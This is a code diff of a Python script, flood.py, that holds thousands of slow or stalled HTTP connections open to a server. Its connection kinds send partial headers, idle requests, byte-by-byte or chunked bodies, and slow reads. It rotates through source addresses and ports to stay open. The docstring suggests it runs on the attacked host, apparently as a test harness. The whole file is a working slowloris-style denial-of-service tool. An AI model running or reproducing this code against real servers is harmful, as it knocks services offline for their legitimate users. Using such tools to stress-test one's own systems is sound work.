@@ -1,17 +1,18 @@
 """Hold many connections to a front from one side, each of which asks for too little: run on a host that is attacked.
 
-    python3 flood.py ADDRESS PORT SECONDS NETWORK KIND=COUNT...
+    python3 flood.py ADDRESS PORT SECONDS NETWORK KIND COUNT FIRST
 
 NETWORK is where the connections come from, of its addresses each time another one. Of the kinds ``half`` sends half of
 a request's headers, ``idle`` asks once and stays, and ``slow`` sends a body byte by byte or takes a large answer in
-small pieces. What is closed is opened anew. Prints how many there were.
+small pieces. What is closed is opened anew, each by the next port of those from FIRST on: to look for a free one of so
+many would take the kernel longer than all else. Prints how many there were.
 """
 
 from __future__ import annotations
 
 import ipaddress
+import itertools
 import json
-import os
 import random
 import resource
 import select
@@ -25,7 +26,9 @@ BEGINNINGS = {
     "idle": [HEAD % b"/static/a.css" + b"\r\n"],
     "slow": [
         b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 100000\r\n\r\nx",
-        HEAD % b"/?size=2000000" + b"\r\n",
+        b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n9000\r\nx",
+        b"POST /login HTTP/1.1\r\nHost: good.example\r\nContent-Length: 1000\r\n\r\nx",
+        HEAD % b"/?size=300000" + b"\r\n",
     ],
 }
 IPV6_FREEBIND = 78  # linux/in6.h
@@ -34,9 +37,10 @@ IPV6_FREEBIND = 78  # linux/in6.h
 class Flood:
     """Connections, by their descriptors, and what became of them."""
 
-    def __init__(self, address: str, port: int, network: str) -> None:
+    def __init__(self, address: str, port: int, network: str, ports: range) -> None:
         """Know whom to attack, and from where."""
         self.address, self.port, self.network = address, port, ipaddress.ip_network(network)
+        self.ports = itertools.cycle(ports)
         self.family = socket.AF_INET6 if ":" in address else socket.AF_INET
         self.poll = select.epoll()
         self.open: dict[int, tuple[socket.socket, str, float]] = {}
@@ -51,12 +55,19 @@ class Flood:
         client = socket.socket(self.family)
         client.setblocking(False)
         client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-        client.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
+        client.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         if self.family == socket.AF_INET6:
             client.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
-        client.bind((self.source(), 0))
-        client.connect_ex((self.address, self.port))
         self.counts["begun"] += 1
+        try:
+            client.bind((self.source(), next(self.ports)))
+            client.connect((self.address, self.port))
+        except BlockingIOError:
+            pass
+        except OSError:
+            client.close()
+            self.counts["closed"] += 1
+            return
         self.open[client.fileno()] = client, kind, 0
         self.poll.register(client, select.EPOLLOUT | select.EPOLLIN)
 
@@ -81,16 +92,12 @@ class Flood:
         except OSError:
             self.end(number)
 
-    def run(self, wanted: dict[str, int], seconds: float) -> None:
-        """Hold so many of each kind for so long."""
+    def run(self, kind: str, count: int, seconds: float) -> None:
+        """Hold so many for so long."""
         deadline = time.monotonic() + seconds
         while time.monotonic() < deadline:
-            there = dict.fromkeys(wanted, 0)
-            for _, kind, _ in self.open.values():
-                there[kind] += 1
-            for kind, count in wanted.items():
-                for _ in range(min(count - there[kind], 2000)):
-                    self.begin(kind)
+            for _ in range(count - len(self.open)):
+                self.begin(kind)
             until = min(deadline, time.monotonic() + 0.5)
             while (left := until - time.monotonic()) > 0:
                 for number, events in self.poll.poll(left, 1000):
@@ -110,13 +117,11 @@ class Flood:
 
 def main() -> None:
     """Attack, and tell what became of it."""
-    address, port, seconds, network, *kinds = sys.argv[1:]
-    wanted = {kind: int(count) for kind, count in (word.split("=") for word in kinds)}
+    address, port, seconds, network, kind, count, first = sys.argv[1:]
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
-    needed = sum(wanted.values()) + 100
-    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, max(needed, most) if os.geteuid() == 0 else most))
-    flood = Flood(address, int(port), network)
-    flood.run(wanted, float(seconds))
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    flood = Flood(address, int(port), network, range(int(first), int(first) + 2 * int(count)))
+    flood.run(kind, int(count), float(seconds))
     print(json.dumps(flood.counts))
 
 
